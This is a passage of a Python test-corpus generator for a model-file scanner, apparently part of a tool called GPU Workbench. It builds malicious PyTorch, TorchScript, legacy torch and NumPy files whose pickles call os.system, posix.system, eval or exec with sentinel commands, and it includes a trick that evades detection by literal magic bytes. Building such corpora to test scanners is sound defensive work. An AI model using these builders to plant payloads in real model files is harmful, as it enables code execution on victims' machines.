    "safetensors' attacks/torch_ace_create.py: a dict subclass whose __reduce__ is "
    "(eval, (code + ' or dict()',), None, None, dict items), so the loaded object is still "
    "a dict with a real 'weight' tensor.",
    "builtins.eval building the top-level dict; the tensor is still listed.",
    flags=(Flag("builtins", "eval"),),
    tensors=("weight",),
    live="torch",
    needs="torch",
)
def _ace(s: Sentinels) -> bytes:
    code = s.expression("ace_dict_state", "dict()")
    body = (
        call2("builtins", "eval", bu(code))
        + MARK
        + bu("weight")
        + tensor_ops("0", (2, 3))
        + SETITEMS
    )
    return torch_zip(p2(body), storages=False, extra=[("data/0", _STATE[0][3])])


@entry(
    "torchscript_constants.pt",
    "A TorchScript-looking archive (code/__torch__/model.py, constants.pkl, data.pkl, "
    "version 6): constants.pkl is a tuple holding os.system(CMD). torch.load hands such "
    "archives to torch.jit.load, which unpickles constants.pkl.",
    "os.system in archive/constants.pkl.",
    flags=(Flag("os", "system", where="constants.pkl"),),
    live="member:archive/constants.pkl",
)
def _torchscript(s: Sentinels) -> bytes:
    constants = p2(tup(call2("os", "system", bu(s.shell("torchscript_constants")))))
    code = b"class Model(Module):\n  def forward(self, x):\n    return x\n"
    return torch_zip(
        p2(EMPTY_DICT),
        extra=[
            ("code/__torch__/model.py", code),
            ("constants.pkl", constants),
            (".data/version", b"6\n"),
        ],
        storages=False,
    )


def _legacy_tail(object_pickle: bytes) -> bytes:
    """Everything after the magic number of a legacy torch file, with the _STATE storages."""
    sys_info = p2(
        EMPTY_DICT
        + MARK
        + bu("protocol_version")
        + bint(LEGACY_PROTOCOL_VERSION)
        + bu("little_endian")
        + NEWTRUE
        + bu("type_sizes")
        + EMPTY_DICT
        + MARK
        + bu("short")
        + bint(2)
        + bu("int")
        + bint(4)
        + bu("long")
        + bint(4)
        + SETITEMS
        + SETITEMS
    )
    keys = p2(EMPTY_LIST + MARK + b"".join(bu(k) for _, k, _, _ in _STATE) + APPENDS)
    data = b"".join(struct.pack("<q", len(d) // 4) + d for _, _, _, d in _STATE)
    return p2(bint(LEGACY_PROTOCOL_VERSION)) + sys_info + object_pickle + keys + data


@entry(
    "torch_legacy_payload.pt",
    "The pre-1.6 stacked-pickle format (magic number, protocol version, sys_info, object, "
    "storage keys, raw storages) whose object pickle is a state_dict plus "
    "posix.system(CMD).",
    "posix.system in the object pickle; the tensors are still listed.",
    flags=(Flag("posix", "system"),),
    tensors=("weight", "bias"),
    live="torch",
    needs="torch",
)
def _legacy(s: Sentinels) -> bytes:
    payload = bu("__payload__") + call2("posix", "system", bu(s.shell("torch_legacy_payload")))
    body = state_dict_ops(legacy=True)[: -len(SETITEMS)] + payload + SETITEMS
    return p2(bint(LEGACY_MAGIC)) + _legacy_tail(p2(body))


@entry(
    "torch_legacy_magic_bypass.pt",
    "A legacy file whose first pickle is not the literal magic number but "
    "__builtin__.eval('... or 0x1950a86a20f9469cfc6c'): torch.load compares the *result* "
    "with the magic, so it loads on; detection by the literal magic bytes misses it "
    "(picklescan pytorch_magic_bypass).",
    "__builtin__.eval in the first pickle; the state_dict's tensors are still listed.",
    flags=(Flag("__builtin__", "eval"),),
    tensors=("weight", "bias"),
    live="torch",
    needs="torch",
)
def _magic_bypass(s: Sentinels) -> bytes:
    code = s.expression("torch_legacy_magic_bypass", hex(LEGACY_MAGIC))
    first = p2(call2("__builtin__", "eval", bu(code)))
    return first + _legacy_tail(p2(state_dict_ops(legacy=True)))


@entry(
    "torch_legacy_tar.pt",
    "The oldest torch format, a tar with sys_info, storages, tensors and pickle members; the "
    "'pickle' member calls posix.system.",
    "posix.system in the tar's pickle member.",
    flags=(Flag("posix", "system"),),
    live="torch",
    needs="torch",
)
def _legacy_tar(s: Sentinels) -> bytes:
    members = [
        ("sys_info", p2(EMPTY_DICT + bu("little_endian") + NEWTRUE + SETITEM)),
        ("storages", p2(bint(0)) + p2(EMPTY_LIST)),
        ("tensors", p2(bint(0))),
        ("pickle", p2(call2("posix", "system", bu(s.shell("torch_legacy_tar"))))),
    ]
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ---- NumPy ----


def npy_object(pickle_bytes: bytes, shape: Tuple[int, ...] = (1,)) -> bytes:
    """A .npy v1.0 file with dtype object; the 'data' is a pickle."""
    header = "{'descr': '|O', 'fortran_order': False, 'shape': %r, }" % (shape,)
    raw = header.encode("latin-1")
    pad = 64 - (10 + len(raw) + 1) % 64
    raw += b" " * (pad % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + pickle_bytes


@entry(
    "object_array.npy",
    "A .npy with dtype object: np.load(allow_pickle=True) unpickles the data, here "
    "builtins.exec (protocol 3, as numpy writes it).",
    "builtins.exec in the object array's pickle.",
    flags=(Flag("builtins", "exec"),),
    live="numpy",
)
def _npy(s: Sentinels) -> bytes:
    payload = glob("builtins", "exec") + bu(s.python("object_array")) + TUPLE1 + REDUCE
    return npy_object(proto(3) + payload + STOP)


@entry(
    "object_member.npz",
    "An .npz whose member 'a.npy' is an object array pickling os.system(CMD), next to a "
    "plain float32 member 'b.npy'.",
    "os.system in a.npy.",
    flags=(Flag("os", "system"),),
    live="numpy",
)
def _npz(s: Sentinels) -> bytes:
    bad = npy_object(p2(call2("os", "system", bu(s.shell("object_member")))))
    header = b"{'descr': '<f4', 'fortran_order': False, 'shape': (2,), }"
    header += b" " * (64 - (10 + len(header) + 1) % 64) + b"\n"
    good = b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + _f32([1.0, 2.0])
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
        z.writestr("a.npy", bad)
        z.writestr("b.npy", good)
    return buf.getvalue()


# ---- writing and victims ----


def write_corpus(directory: str, sentinels: Sentinels) -> Dict[str, str]:
    """Write every entry into `directory`; returns entry name -> path."""
    os.makedirs(directory, exist_ok=True)
    paths: Dict[str, str] = {}
    for e in ENTRIES:
        path = os.path.join(directory, e.name)
        with open(path, "wb") as f:
            f.write(e.build(sentinels))
        paths[e.name] = path
    return paths


def by_name(name: str) -> Entry:
    for e in ENTRIES:
        if e.name == name:
            return e
    raise KeyError(name)


def victim(jobs: List[Dict[str, str]]) -> List[Dict[str, str]]:
    """Load each {path, live, setup} the way a victim would; only for the control tests.

    Runs in a throwaway subprocess: this is exactly what GPU Workbench never does.
    """
    import pickle

    results = []
    for job in jobs:
        outcome = "loaded"
        try:
            if job.get("setup"):
                exec(job["setup"], {})
            mode = job["live"]
            path = job["path"]
            if mode == "pickle":
                with open(path, "rb") as f:
                    pickle.loads(f.read())
            elif mode == "pickle-stream":
                with open(path, "rb") as f:
                    while f.read(1):
                        f.seek(-1, 1)
                        pickle.Unpickler(f).load()
            elif mode.startswith("member:"):
                with zipfile.ZipFile(path) as z, z.open(mode[len("member:") :]) as m:
                    pickle.loads(m.read())
            elif mode == "torch":
                torch: Any = importlib.import_module("torch")  # only the victim has it
                try:
                    torch.load(path, weights_only=False)
                except TypeError:  # torch < 1.13 has no weights_only (and never checks)
                    torch.load(path)
            elif mode == "numpy":
                np: Any = importlib.import_module("numpy")
                loaded = np.load(path, allow_pickle=True)
                if hasattr(loaded, "files"):
                    for name in loaded.files:
                        loaded[name]
            else:
                outcome = "unknown mode %s" % mode
        except BaseException as exc:  # the payload may run before the load fails
            outcome = "raised %s: %s" % (type(exc).__name__, str(exc)[:200])
        results.append({"path": job["path"], "outcome": outcome})
    return results


def _main(argv: List[str]) -> int:
    if len(argv) == 2 and argv[0] == "--victim":
        print(json.dumps(victim(json.loads(argv[1]))))
        return 0
    if len(argv) != 1:
        print("usage: python malicious_corpus.py DIR", file=sys.stderr)
        return 2
    directory = os.path.abspath(argv[0])
    sentinels = Sentinels(os.path.join(directory, "sentinels"))
    try:
        write_corpus(directory, sentinels)
    finally:
        sentinels.close()
    for e in ENTRIES:
        print("%-40s %-14s %s" % (e.name, "|".join(e.verdicts), e.flagged_for))
    print("%d files in %s; sentinels go to %s" % (len(ENTRIES), directory, sentinels.root))
    return 0


if __name__ == "__main__":
    sys.exit(_main(sys.argv[1:]))
